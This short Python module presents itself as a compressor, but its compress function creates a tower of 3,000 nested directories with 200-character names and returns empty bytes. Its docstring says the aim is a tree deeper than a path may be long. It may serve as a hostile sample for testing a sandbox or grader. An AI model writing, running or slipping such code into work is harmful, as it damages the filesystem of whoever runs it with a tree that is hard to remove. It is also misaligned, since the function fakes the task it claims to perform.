"""Leaves a tower of folders that is deeper than a path may be long."""
import os


def compress(data: bytes) -> bytes:
    for _ in range(3_000):
        os.mkdir("f" * 200)
        os.chdir("f" * 200)
    return b""


def decompress(data: bytes) -> bytes:
    return data
